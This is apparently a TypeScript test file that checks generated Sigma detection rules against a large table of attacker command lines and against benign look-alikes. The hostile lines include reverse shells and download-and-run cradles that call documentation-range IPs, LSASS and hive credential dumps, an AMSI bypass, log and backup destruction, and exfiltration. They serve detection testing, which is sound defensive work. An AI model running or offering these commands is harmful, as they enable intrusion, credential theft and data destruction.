import { validateRuleDocument } from '../validate/validate-rule';
import { selfTestRule } from '../evaluate/self-test';
import { fidelityCheck } from '../vetting/fidelity';
import { generateBuiltinRules, type TemplatePlatform } from './builtin-sigma-agent';
import { knownSpellings, meetsSelection, shownAlternatives, techniqueOf } from './technique-match';
import { TECHNIQUES } from './techniques';
import { UNIX_SHOWN } from './unix-techniques.fixture';

const article = { title: 'Notes on an intrusion', url: 'https://research.example.org/notes', date: '2026-11-27' };
const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9, executable: '' };

// Command lines as intruders type them, written for these tests: [technique id, platform, command line].
const SHOWN: Array<[string, TemplatePlatform, string]> = [
  ['certutil-download', 'windows', 'certutil.exe /urlcache /split /f http://198.51.100.4/p.txt C:\\Users\\Public\\p.exe'],
  ['certutil-decode', 'windows', 'certutil -decode C:\\ProgramData\\b64.txt C:\\ProgramData\\run.dll'],
  ['bitsadmin-download', 'windows', 'bitsadmin /transfer job1 /download /priority high http://198.51.100.4/t.exe C:\\Temp\\t.exe'],
  ['finger-remote-commands', 'windows', 'finger relay@198.51.100.8'],
  ['lsass-dump-comsvcs', 'windows', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\ProgramData\\out.bin full'],
  ['procdump-lsass', 'windows', 'procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp'],
  ['reg-save-hive', 'windows', 'reg save HKLM\\SAM C:\\ProgramData\\s.hiv /y'],
  ['ntdsutil-ifm', 'windows', 'ntdsutil "ac i ntds" "ifm" "create full C:\\Temp\\x" q q'],
  ['vssadmin-delete-shadows', 'windows', 'vssadmin.exe Delete Shadows /All /Quiet'],
  ['wmic-delete-shadows', 'windows', 'wmic shadowcopy delete /nointeractive'],
  ['wbadmin-delete', 'windows', 'wbadmin delete catalog -quiet'],
  ['bcdedit-recovery', 'windows', 'bcdedit /set {default} recoveryenabled No'],
  ['wevtutil-clear', 'windows', 'wevtutil cl Security'],
  ['powershell-clear-eventlog', 'windows', 'powershell -c "Clear-EventLog -LogName Application,System"'],
  ['fsutil-usn-delete', 'windows', 'fsutil usn deletejournal /D C:'],
  ['defender-preference-tamper', 'windows', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
  [
    'powershell-security-service-stop',
    'windows',
    'powershell -c "Stop-Service -Name WinDefend -Force; Set-Service -Name WinDefend -StartupType Disabled"',
  ],
  ['defender-exclusion', 'windows', 'Add-MpPreference -ExclusionPath C:\\ProgramData\\cache'],
  [
    'security-scheduled-task-disabled',
    'windows',
    'schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /Disable',
  ],
  ['netsh-firewall-off', 'windows', 'netsh advfirewall set allprofiles state off'],
  [
    'cmd-loop-runs-fetched-text',
    'windows',
    'cmd /c start "" /min for /f "skip=4 delims=" %a in (\'finger stage@198.51.100.12\') do call %a',
  ],
  ['pasted-command-lure', 'windows', 'mshta https://198.51.100.9/check # I am not a robot - reCAPTCHA Verification ID: 2817'],
  ['netsh-firewall-opmode-off', 'windows', 'netsh firewall set opmode mode=disable'],
  ['vssadmin-resize-shadowstorage', 'windows', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB'],
  ['netsh-portproxy', 'windows', 'netsh interface portproxy add v4tov4 listenport=4443 connectaddress=10.1.2.3 connectport=3389'],
  ['net-user-add', 'windows', 'net user svc_backup P@ssw0rd1 /add'],
  ['net-admin-group-add', 'windows', 'net localgroup Administrators svc_backup /add'],
  ['nltest-trusts', 'windows', 'nltest /domain_trusts /all_trusts'],
  ['bcdedit-elam', 'windows', 'bcdedit.exe /set {current} disableelamdrivers yes'],
  ['psexec-remote', 'windows', 'PsExec64.exe \\\\FS02 -accepteula -s cmd /c C:\\Windows\\Temp\\d.bat'],
  ['wmic-remote-process', 'windows', 'wmic /node:10.20.30.40 /user:corp\\adm process call create "cmd /c C:\\Temp\\r.bat"'],
  ['pcalua-proxy', 'windows', 'pcalua.exe -a C:\\Users\\Public\\loader.exe'],
  ['powershell-dns-txt', 'windows', 'powershell -w h -c "iex (Resolve-DnsName -Type TXT cfg.stage-relay.example).Strings"'],
  ['anydesk-password', 'windows', 'AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent'],
  ['ad-enumeration-tools', 'windows', 'adfind.exe -f "(objectcategory=computer)" -csv name'],
  ['rclone-transfer', 'windows', 'rclone.exe copy \\\\FS02\\finance remote:loot --transfers 8 -q'],
  ['mimikatz-commands', 'windows', 'C:\\Temp\\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
  ['crypto-miner', 'linux', 'tar -xzf /tmp/xmrig-6.21.0-linux-static-x64.tar.gz -C /tmp/.x'],
  ['mshta-remote', 'windows', 'mshta.exe https://cdn-relay.example/app.hta'],
  ['regsvr32-scriptlet', 'windows', 'regsvr32 /s /n /u /i:http://198.51.100.9/x.sct scrobj.dll'],
  ['msiexec-remote', 'windows', 'msiexec /q /i https://updates-relay.example/agent.msi'],
  ['shadow-copy-create', 'windows', 'vssadmin create shadow /for=C:'],
  ['shadow-delete-powershell', 'windows', 'powershell -c "Get-WmiObject Win32_ShadowCopy | Remove-WmiObject"'],
  ['icacls-everyone-full', 'windows', 'icacls "C:\\*" /grant Everyone:F /T /C /Q'],
  ['net-domain-groups', 'windows', 'net group "Domain Admins" /domain'],
  ['whoami-privileges', 'windows', 'whoami /priv'],
  ['query-user-sessions', 'windows', 'query session /server:rds01'],
  ['quser-sessions', 'windows', 'quser /server:rds01'],
  ['aws-cli-iam-persistence', 'linux', 'aws iam create-access-key --user-name svc-backup'],
  ['aws-cli-secrets', 'linux', 'aws secretsmanager get-secret-value --secret-id prod/db --region us-east-1'],
  [
    'offensive-powershell',
    'windows',
    'powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.2/a.ps1\'); Invoke-ShareFinder -CheckShareAccess"',
  ],
  ['kerberos-ticket-tools', 'windows', 'C:\\Users\\Public\\svc.exe kerberoast /outfile:C:\\Users\\Public\\h.txt'],
  ['impacket-exec-output', 'windows', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.25 2>&1'],
  ['dev-tcp-shell', 'linux', 'bash -c "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"'],
  ['python-pty-shell', 'linux', 'python3 -c \'import pty; pty.spawn("/bin/bash")\''],
  ['xattr-quarantine', 'macos', 'xattr -d com.apple.quarantine /tmp/Installer.app'],
  ['dscl-authonly', 'macos', 'dscl /Local/Default -authonly jdoe hunter2'],
  ['security-keychain', 'macos', 'security find-generic-password -ga "Chrome" -w'],
  ['osascript-dialog', 'macos', 'osascript -e \'display dialog "Enter your password" default answer "" with hidden answer\''],
  ['system-profiler', 'macos', 'system_profiler SPHardwareDataType'],
  ['ditto-archive', 'macos', 'ditto -c -k --sequesterRsrc --keepParent /tmp/out /tmp/out.zip'],
  ['spctl-disable', 'macos', 'spctl --master-disable'],
  ['chattr-immutable', 'linux', 'chattr -i /etc/ld.so.preload'],
  ['firewall-flush', 'linux', 'iptables -F'],
  ['uid0-account', 'linux', 'useradd -o -u 0 -g 0 -M sysadm'],
  ['proc-hidepid', 'linux', 'mount -o remount,rw,hidepid=2 /proc'],
  ['container-escape', 'linux', 'nsenter -t 1 -m -u -i -n sh'],
  [
    'webdav-rundll32',
    'windows',
    'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie files-relay.example https://files-relay.example/share/',
  ],
  ['mega-client', 'windows', 'C:\\Users\\kim\\AppData\\Local\\MEGAcmd\\mega-put.bat C:\\Staging\\out.7z /exports'],
  ['archive-password', 'windows', '7z.exe a -mx9 -pQ7x!z2 C:\\ProgramData\\f.7z \\\\FS02\\finance'],
  ['terminal-killed', 'macos', 'killall Terminal'],
  ['decode-pipe-shell', 'linux', 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2kuc2ggfCBzaAo= | base64 -d | bash'],
  ['shell-history-cleared', 'linux', 'bash -c "unset HISTFILE; history -c"'],
  ['shell-history-removed', 'linux', 'rm -f /root/.bash_history'],
  ['cron-job-suspicious', 'linux', "(crontab -l; echo '* * * * * /dev/shm/.k/upd') | crontab -"],
  ['fstab-hidepid', 'linux', "echo 'proc /proc proc defaults,hidepid=2 0 0' >> /etc/fstab"],
  ['net-use-admin-share', 'windows', 'net use \\\\10.20.30.41\\C$ /user:corp\\adm Winter2026!'],
  ['remote-service-create', 'windows', 'sc.exe \\\\FS02 create upd binPath= "C:\\Windows\\Temp\\u.exe" start= auto'],
  ['remote-scheduled-task', 'windows', 'schtasks /create /s FS02 /tn Upd /tr C:\\Windows\\Temp\\u.exe /sc once /st 00:00 /ru SYSTEM'],
  ['security-product-discovery', 'windows', 'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName'],
  ['setspn-enumeration', 'windows', 'setspn -T corp.example -Q */*'],
  ['findstr-passwords', 'windows', 'findstr /si cpassword \\\\corp.example\\sysvol\\*.xml'],
  [
    'shadow-copy-secrets-copy',
    'windows',
    'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Temp\\n.dit',
  ],
  ['curl-upload', 'linux', 'curl -s -F data=@/tmp/.c/out.tgz https://drop.example.net/u'],
  ['credential-files-read', 'linux', 'cat /home/dev/.aws/credentials'],
  ['ssh-authorized-key-added', 'linux', "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0x op@relay' >> /root/.ssh/authorized_keys"],
  ['ld-preload-write', 'linux', "echo '/usr/local/lib/libsys.so' > /etc/ld.so.preload"],
  ['download-chmod-temp', 'linux', 'wget -q http://198.51.100.12/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k'],
  ['kubectl-secrets', 'linux', 'kubectl get secrets -A -o yaml'],
  ['admin-share-copy', 'windows', 'cmd.exe /c copy C:\\Temp\\u.exe \\\\FS02\\C$\\Windows\\Temp\\u.exe'],
  ['netsh-rdp-allow', 'windows', 'netsh advfirewall firewall add rule name=rdp dir=in protocol=tcp localport=3389 action=allow'],
  ['meshagent-install', 'windows', 'C:\\Users\\Public\\svc64.exe -fullinstall'],
  ['cloudflared-tunnel', 'windows', 'C:\\ProgramData\\cf.exe tunnel --no-autoupdate run --token eyJhIjoiMDAwIn0='],
  ['ip-download-pipe-shell', 'linux', 'curl -s http://198.51.100.23/i.sh | sh'],
  ['insecure-download-pipe-shell', 'linux', 'if ! type quill; then curl -sLk $SRC/q/set/quill.sh | bash ; fi'],
  ['insecure-download-pipe-shell', 'linux', 'wget --no-check-certificate -qO- https://quill.example/i.sh | sudo bash'],
  ['env-secrets-grep', 'linux', 'env | grep -i token > /tmp/.t'],
  ['netcat-shell', 'linux', 'nc -e /bin/sh 198.51.100.30 4444'],
  ['sudoers-nopasswd', 'linux', 'echo "svc ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'],
  ['auditd-disabled', 'linux', 'auditctl -D'],
  ['linux-logs-wiped', 'linux', 'shred -u /var/log/auth.log'],
  [
    'reg-defender-exclusion',
    'windows',
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v C:\\ProgramData\\cache /t REG_DWORD /d 0 /f',
  ],
  [
    'reg-defender-policy-off',
    'windows',
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
  ],
  ['reg-defender-context-menu', 'windows', 'reg delete "HKCR\\Directory\\shellex\\ContextMenuHandlers\\EPP" /f'],
  [
    'reg-rdp-enable',
    'windows',
    'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
  ],
  ['cloud-cli-credentials', 'linux', 'az ad app credential reset --id 00000000-0000-0000-0000-000000000001 --append'],
  ['ping-loopback-delay', 'windows', 'cmd.exe /c ping 127.0.0.1 -n 6 > nul & del /f /q C:\\Users\\Public\\svc.exe'],
  ['chattr-immutable', 'linux', 'chattr -ia /etc/ld.so.preload'],
  [
    'powershell-download-cradle',
    'windows',
    'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
  ],
  ['powershell-download-cradle', 'windows', "irm 'https://relay.example/agent?t=7' | iex"],
  [
    'powershell-download-to-user-folder',
    'windows',
    'powershell -c "Invoke-WebRequest -Uri https://cdn-relay.example/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"',
  ],
  [
    'powershell-decode-and-run',
    'windows',
    'powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'d2hvYW1p\')))"',
  ],
  [
    'amsi-bypass',
    'windows',
    "powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
  ],
  [
    'powershell-assembly-load',
    'windows',
    'powershell -c "$b=[IO.File]::ReadAllBytes(\'C:\\Users\\Public\\q.bin\'); [System.Reflection.Assembly]::Load($b)"',
  ],
  [
    'powershell-shellcode-apis',
    'windows',
    'powershell -c "$p=[Win32]::VirtualAlloc(0,4096,0x3000,0x40); [Win32]::CreateThread(0,0,$p,0,0,0)"',
  ],
  ['powershell-lsass-minidump', 'windows', 'powershell -c "Out-Minidump -Process (Get-Process lsass) -DumpFilePath C:\\Users\\Public"'],
  [
    'powershell-credential-store',
    'windows',
    'powershell -c "[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]; (New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll()"',
  ],
  ['powershell-remote-command', 'windows', 'powershell -c "Invoke-Command -ComputerName FS02 -ScriptBlock { C:\\Windows\\Temp\\u.exe }"'],
  ['powershell-firewall-off', 'windows', 'powershell -c "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False"'],
  ['powershell-local-admin-add', 'windows', 'powershell -c "Add-LocalGroupMember -Group Administrators -Member svc_upd"'],
  ['powershell-history-erased', 'windows', 'powershell -c "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force"'],
  ['conhost-headless', 'windows', 'conhost.exe --headless cmd.exe /c C:\\Users\\Public\\r.bat'],
  ['wmic-xsl-script', 'windows', 'wmic os get /format:"https://198.51.100.8/s.xsl"'],
  ['cmstp-inf', 'windows', 'cmstp.exe /ni /s C:\\Users\\Public\\c.inf'],
  ['odbcconf-dll', 'windows', 'odbcconf.exe /a {REGSVR C:\\Users\\Public\\l.dll}'],
  ['mavinject-injection', 'windows', 'mavinject.exe 4172 /INJECTRUNNING C:\\Users\\Public\\i.dll'],
  ['certreq-upload', 'windows', 'certreq -Post -config https://198.51.100.9/u C:\\Users\\Public\\out.txt'],
  ['cmdkey-list', 'windows', 'cmdkey /list'],
  ['vaultcmd-list', 'windows', 'vaultcmd /listcreds:"Windows Credentials" /all'],
  ['reg-query-credentials', 'windows', 'reg query HKCU\\Software\\SimonTatham\\PuTTY\\Sessions /s'],
  ['security-process-killed', 'windows', 'taskkill /f /im MsMpEng.exe'],
  ['wevtutil-log-disabled', 'windows', 'wevtutil sl Microsoft-Windows-PowerShell/Operational /e:false'],
  ['auditpol-disabled', 'windows', 'auditpol /clear /y'],
  ['tscon-session-hijack', 'windows', 'tscon 2 /dest:rdp-tcp#14'],
  ['winrs-remote', 'windows', 'winrs -r:FS02 "cmd /c C:\\Windows\\Temp\\u.exe"'],
  ['cipher-wipe', 'windows', 'cipher /w:C:\\'],
  ['attrib-hidden-system', 'windows', 'attrib +h +s C:\\ProgramData\\Updater'],
  ['ssh-reverse-tunnel', 'windows', 'plink.exe -ssh -P 443 -l tun -pw x1 -R 9833:127.0.0.1:3389 198.51.100.10'],
  ['ngrok-tunnel', 'windows', 'C:\\Users\\Public\\ngrok.exe tcp 3389'],
  ['chisel-tunnel', 'linux', '/tmp/.c/chis client 198.51.100.11:8443 R:socks'],
  ['offensive-tool-names', 'windows', 'C:\\Users\\Public\\LaZagne.exe all -oN'],
  ['launchctl-agent-load', 'macos', 'launchctl load -w ~/Library/LaunchAgents/com.apple.updatesvc.plist'],
  ['hdiutil-hidden-mount', 'macos', 'hdiutil attach -nobrowse -mountpoint /Volumes/inst /tmp/inst.dmg'],
  ['osascript-admin-shell', 'macos', 'osascript -e \'do shell script "cp /tmp/.u /usr/local/bin/u" with administrator privileges\''],
  [
    'osascript-login-item',
    'macos',
    'osascript -e \'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.u", hidden:true}\'',
  ],
  ['macos-login-hook', 'macos', 'sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.h.sh'],
  ['screencapture-silent', 'macos', 'screencapture -x /tmp/.s/1.png'],
  ['tcc-database-access', 'macos', 'sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "select client from access"'],
  ['dscl-admin-add', 'macos', 'dscl . -append /Groups/admin GroupMembership svc'],
  ['browser-credential-store', 'macos', 'cp "/Users/kim/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/.l/ld'],
  ['chmod-exec-temp', 'linux', 'chmod +x /dev/shm/.x/kworker'],
  ['nohup-temp-exec', 'linux', 'nohup /var/tmp/.k/kdevtmp >/dev/null 2>&1 &'],
  ['shell-profile-persistence', 'linux', 'echo "/dev/shm/.x/kworker &" >> /root/.bashrc'],
  ['fifo-reverse-shell', 'linux', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.12 4444 > /tmp/f'],
  [
    'script-socket-shell',
    'linux',
    'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.13",443));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
  ],
  ['kernel-module-load', 'linux', 'insmod /tmp/.m/diamorphine.ko'],
  ['setuid-bit-set', 'linux', 'chmod u+s /usr/local/bin/.sh2'],
  ['security-agent-stopped', 'linux', 'systemctl stop falcon-sensor'],
  ['cloud-instance-credentials', 'linux', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role'],
  ['container-exec-shell', 'linux', 'kubectl exec -it api-7d9f -n prod -- /bin/sh'],
  ['container-host-root-mount', 'linux', 'docker run -it -v /:/host alpine chroot /host sh'],
  ['file-sharing-service', 'linux', 'tar czf - /root/.aws | curl --upload-file - https://transfer.sh/a.tgz'],
  ['internet-scanner', 'linux', 'masscan 10.0.0.0/8 -p6379 --rate 10000'],
  ['net-view-discovery', 'windows', 'net view \\\\FS02 /all'],
  ['net-share-discovery', 'windows', 'net share'],
  ['net-accounts-discovery', 'windows', 'net accounts /domain'],
  ['net-session-discovery', 'windows', 'net session'],
  ['net-user-discovery', 'windows', 'net user'],
  ['net-group-discovery', 'windows', 'net1 group'],
  ['logged-on-user-discovery', 'windows', 'quser'],
  ['remote-access-rustdesk', 'windows', 'C:\\Users\\Public\\rustdesk.exe --password Tmp2026'],
  [
    'remote-access-screenconnect',
    'windows',
    '"C:\\Program Files (x86)\\ScreenConnect Client (4f1d)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.example"',
  ],
  ['remote-access-atera', 'windows', 'C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe /i'],
  ['remote-access-splashtop', 'windows', 'C:\\Users\\Public\\SRService.exe'],
  ['remote-access-tactical-rmm', 'windows', 'C:\\ProgramData\\TacticalAgent\\tacticalrmm.exe -m install'],
  ['remote-access-remote-utilities', 'windows', 'C:\\ProgramData\\RU\\rutserv.exe /silentinstall'],
  ['remote-access-netsupport-manager', 'windows', 'C:\\Users\\kim\\AppData\\Roaming\\Ctx\\client32.exe'],
  ['remote-access-dwservice', 'linux', '/tmp/.d/dwagent -silent'],
  ['remote-access-simplehelp', 'windows', 'C:\\ProgramData\\JWrapper-Remote Access\\SimpleHelp.exe'],
  ['crontab-replaced', 'linux', 'crontab /tmp/.c/cr'],
  ...UNIX_SHOWN,
  ['ssh-reverse-tunnel', 'windows', 'ssh.exe -N -R 1080 tun@198.51.100.14'],
];

describe('well-known techniques: rules keyed on the behaviour', () => {
  it('has a command line of ours for every technique of the table', () => {
    expect(new Set(SHOWN.map(([id]) => id))).toEqual(new Set(TECHNIQUES.map((technique) => technique.id)));
  });

  it.each(SHOWN)('%s: a valid rule that fires on the command and not on ordinary machines', (id, platform, commandLine) => {
    const drafts = generateBuiltinRules({ article, platform, cmdlines: [{ ...item, value: commandLine }] });
    const technique = TECHNIQUES.find((entry) => entry.id === id);
    const draft = drafts.find((candidate) => candidate.rule.title === technique?.title);
    expect(draft).toBeDefined();
    const rule = draft?.rule as unknown as Record<string, unknown>;
    expect(validateRuleDocument(rule).findings).toEqual([]);
    const selfTest = selfTestRule(rule, [{ type: 'cmdline', value: commandLine }]);
    expect(selfTest.fires).toBe(true);
    expect(selfTest.baseline?.fires ?? 0).toBe(0);
    // Every value is stated by the command or is a known spelling of the behaviour it shows.
    expect(fidelityCheck(draft?.detectionValues ?? [], [commandLine]).unsupported_values).toEqual([]);
  });

  it('keys an LSASS dump through comsvcs.dll on MiniDump, not on the dump file name', () => {
    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map(
      (draft) => draft.rule,
    );
    expect(rule?.detection).toEqual({
      selection_img: [{ 'Image|endswith': '\\rundll32.exe' }, { OriginalFileName: 'RUNDLL32.EXE' }],
      selection_cli_1: { 'CommandLine|contains': 'comsvcs' },
      selection_cli_2: { 'CommandLine|contains': ['MiniDump', '#24'] },
      condition: 'all of selection_*',
    });
    expect(JSON.stringify(rule?.detection)).not.toContain('out.bin');
    expect(rule?.tags).toEqual(['attack.credential-access', 'attack.t1003.001']);
  });

  it('also fires on the spellings the article did not use', () => {
    const [rule] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[4]?.[2] ?? '' }] }).map(
      (draft) => draft.rule,
    );
    const variant = selfTestRule(rule as unknown as Record<string, unknown>, [
      { type: 'cmdline', value: 'rundll32 C:\\windows\\system32\\comsvcs.dll #24 612 D:\\x.dmp full' },
    ]);
    expect(variant.fires).toBe(true);
    const [certutil] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: SHOWN[0]?.[2] ?? '' }] }).map(
      (draft) => draft.rule,
    );
    expect(
      selfTestRule(certutil as unknown as Record<string, unknown>, [
        { type: 'cmdline', value: 'certutil -urlcache -f https://203.0.113.9/x x.exe' },
      ]).fires,
    ).toBe(true);
  });

  it('gives one rule per technique however many commands show it, and leaves other commands to their own rules', () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: [
        'vssadmin delete shadows /all /quiet',
        'vssadmin.exe Delete Shadows /For=C: /Quiet',
        'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start',
      ].map((value) => ({ ...item, value })),
    });
    expect(drafts.map((draft) => draft.rule.title)).toEqual([
      'Shadow Copies Deleted Via Vssadmin.EXE',
      'Rundll32.EXE Execution Of DLL From Unusual Location',
      'Payload Staged In A User-Writable Folder',
    ]);
    // The switch both commands show is keyed too, as the engineer writes the step; one only the first shows is not.
    expect(drafts[0]?.rule.detection['selection_switches']).toEqual({ 'CommandLine|contains': '/quiet' });
    for (const value of ['vssadmin delete shadows /all /quiet', 'vssadmin.exe Delete Shadows /For=C: /Quiet'])
      expect(selfTestRule(drafts[0]?.rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value }]).fires).toBe(true);
  });

  it("writes the rule of a technique any program shows besides the program's own rule", () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'linux',
      cmdlines: [{ ...item, value: 'curl -sL http://198.51.100.4/xmrig-6.21.0.tar.gz -o /tmp/.cache/x.tgz' }],
    });
    expect(drafts.map((draft) => draft.rule.title)).toEqual(['Cryptocurrency Miner Downloaded Or Run', 'Curl Download From Remote Host']);
    expect(drafts[0]?.rule.detection).toEqual({
      selection: {
        'CommandLine|contains': ['xmrig', 'stratum+tcp://'],
      },
      condition: 'selection',
    });
  });

  it('makes no rule of a program whose selection only repeats the technique rule that fires on it', () => {
    const titlesOf = (value: string) =>
      generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value }] })
        .filter((draft) => draft.telemetryClass === 'process_creation')
        .map((draft) => draft.rule.title);
    // tee writing /etc/ld.so.preload: the preload rule keys on the file and the write; a tee rule on the same file repeats it.
    expect(titlesOf("echo '/usr/lib/quill/libq.so' | tee -a /etc/ld.so.preload")).toEqual([
      'Library Preloaded Into Every Process Through /etc/ld.so.preload',
    ]);
    // tee writing another system file shows no technique: the program's own rule stays.
    expect(titlesOf('echo 1 | tee -a /etc/quill/quill.conf')).toEqual(['System Configuration Written Via Tee']);
  });

  it('calls a disabled Defender or update task defence impairment, and leaves other task changes to the schtasks rule', () => {
    const titlesOf = (value: string) =>
      generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value }] }).map((draft) => draft.rule.title);
    expect(titlesOf('schtasks /change /tn "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan" /disable')).toEqual([
      'Security Or Update Scheduled Task Disabled Via Schtasks.EXE',
    ]);
    // Turning the scan back on, or disabling the intruder's own task, is no impairment of a defence.
    expect(titlesOf('schtasks /change /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /enable')).toEqual([
      'Scheduled Task Change Via Schtasks.EXE',
    ]);
    expect(titlesOf('schtasks /change /tn "QuillSync" /disable')).not.toContain(
      'Security Or Update Scheduled Task Disabled Via Schtasks.EXE',
    );
  });

  it('keys PsExec on a remote host or a host list, not on any path', () => {
    const [rule] = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: [{ ...item, value: 'PsExec.exe -h @hosts.txt -d -c C:\\Temp\\1.bat' }],
    }).map((draft) => draft.rule);
    expect(selfTestRule(rule as unknown as Record<string, unknown>, [{ type: 'cmdline', value: 'PsExec.exe \\\\FS02 -s cmd' }]).fires).toBe(
      true,
    );
    expect(
      selfTestRule(rule as unknown as Record<string, unknown>, [
        { type: 'cmdline', value: 'C:\\Tools\\PsExec.exe -i -s C:\\Windows\\regedit.exe' },
      ]).fires,
    ).toBe(false);
  });

  it.each([
    ['linux', 'curl -fsSL https://get.example.org/install.sh | sh'],
    ['linux', 'curl -k https://10.0.0.5:8443/health'],
    ['windows', 'vssadmin list shadows /for=C:'],
    ['windows', 'netsh advfirewall set allprofiles state on'],
    ['windows', 'netsh firewall set opmode mode=enable'],
    ['linux', 'curl -sk https://quill.example/status | grep -q ok'],
    ['linux', 'base64 -d cert.b64 | sha256sum'],
    ['linux', 'crontab -l'],
    ['linux', 'bash /opt/ci/temp.sh --dry-run'],
    ['linux', "echo '*/30 * * * * /usr/local/bin/backup' | crontab -"],
    ['linux', 'cat ~/.bash_history'],
    ['windows', '7z.exe x -pSecret C:\\Users\\kim\\Downloads\\photos.7z'],
    ['windows', 'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie intranet'],
    ['macos', 'killall Finder'],
    ['windows', 'net use Z: \\\\fileserver\\projects'],
    ['windows', 'sc query wuauserv'],
    ['windows', 'ping -n 4 fileserver.corp.example'],
    ['windows', 'ping 127.0.0.1'],
    ['windows', 'schtasks /create /tn Backup /tr C:\\Tools\\b.exe /sc daily'],
    ['linux', 'curl -s https://api.example.org/v1/status'],
    ['linux', 'ssh -i ~/.ssh/deploy.pem ops@10.0.0.5'],
    ['linux', 'cat ~/.ssh/authorized_keys'],
    ['linux', 'wget -q https://example.org/tool.tgz -O /opt/tool.tgz && chmod 644 /opt/tool.tgz'],
    ['linux', 'kubectl get pods -A'],
    ['windows', 'copy C:\\Reports\\q3.xlsx \\\\fileserver\\reports\\q3.xlsx'],
    ['windows', 'netsh advfirewall firewall add rule name=web dir=in protocol=tcp localport=443 action=allow'],
    ['linux', 'curl -fsSL https://get.example.org/install.sh | bash'],
    ['linux', 'env | sort'],
    ['linux', 'nc -zv 10.0.0.5 22'],
    ['linux', 'auditctl -l'],
    ['linux', 'cloudflared --version'],
    ['windows', 'powershell -c "Stop-Service -Name Spooler -Force"'],
    ['windows', 'net localgroup administrators'],
    ['linux', 'chmod 644 /tmp/notes.txt'],
    ['macos', 'launchctl load -w /Library/LaunchDaemons/com.corp.agent.plist'],
    ['linux', 'systemctl status auditd'],
    ['linux', 'killall -HUP rsyslogd'],
    ['linux', 'kubectl exec api-7d9f -- ls /app'],
    ['windows', 'powershell -c "Invoke-WebRequest -Uri https://example.org/f.zip -OutFile C:\\Tools\\f.zip"'],
    ['linux', 'curl -s http://169.254.169.254/latest/meta-data/instance-id'],
    ['windows', 'taskkill /f /im notepad.exe'],
    ['linux', 'ssh -L 8080:localhost:80 ops@10.0.0.5'],
  ] as Array<[TemplatePlatform, string]>)('writes no technique rule for the everyday %s command %s', (platform, commandLine) => {
    const titles = generateBuiltinRules({ article, platform, cmdlines: [{ ...item, value: commandLine }] }).map(
      (draft) => draft.rule.title,
    );
    const techniqueTitles = new Set(TECHNIQUES.map((technique) => technique.title));
    expect(titles.filter((title) => techniqueTitles.has(title))).toEqual([]);
  });

  it('keys a Defender preference on the value that disables it, not on the -Disable parameter alone', () => {
    const shown = 'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true -Force"';
    const [draft] = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: shown }] });
    expect(draft?.rule.title).toBe('Microsoft Defender Protection Weakened Via Set-MpPreference');
    const rule = draft?.rule as unknown as Record<string, unknown>;
